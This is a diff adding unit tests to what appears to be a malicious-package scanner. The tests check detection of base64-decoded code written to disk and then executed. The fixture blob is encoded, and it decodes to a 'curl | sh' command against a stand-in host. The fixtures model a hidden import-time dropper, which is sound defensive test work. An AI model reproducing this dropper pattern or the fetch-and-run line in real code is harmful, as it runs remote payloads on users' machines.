@@ -338,3 +338,30 @@ def test_a_count_taken_of_decoded_data_is_no_decoded_command() -> None:
     assert "PV-EXE-001" not in ids(run(RULES, py(launcher, stage=Stage.RUNTIME)))
     decoded = launcher.replace("'--rank={}'.format(rank)", "info['cmd']")
     assert "PV-EXE-001" in ids(run(RULES, py(decoded, stage=Stage.RUNTIME)))
+
+
+_BLOB = "aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8veC5pbnZhbGlkL2EgfCBzaCcpCg=="
+
+
+def test_decoded_code_written_to_a_file_and_run_from_there_is_critical() -> None:
+    for run_it in (
+        "import runpy\nrunpy.run_path(p)\n",
+        "import importlib.util\ns = importlib.util.spec_from_file_location('m', p)\n"
+        "s.loader.exec_module(importlib.util.module_from_spec(s))\n",
+        "import subprocess, sys\nsubprocess.Popen([sys.executable, p])\n",
+    ):
+        source = (
+            "import base64\np = '/tmp/m.py'\n"
+            f"with open(p, 'wb') as f:\n    f.write(base64.b64decode('{_BLOB}'))\n"
+        )
+        found = [
+            f for f in run(RULES, py(source + run_it, path="acme/__init__.py")) if f.rule == "PV-EXE-005"
+        ]
+        assert [(f.severity, f.stage) for f in found] == [(Severity.CRITICAL, Stage.IMPORT)], run_it
+    # an icon decoded to disk and a plugin loader elsewhere: nothing runs what was written
+    icon = (
+        "import base64, runpy\n"
+        f"open('icon.png', 'wb').write(base64.b64decode('{_BLOB}'))\n"
+        "def plugin(path):\n    return runpy.run_path(path)\n"
+    )
+    assert "PV-EXE-005" not in ids(run(RULES, py(icon, path="acme/__init__.py")))
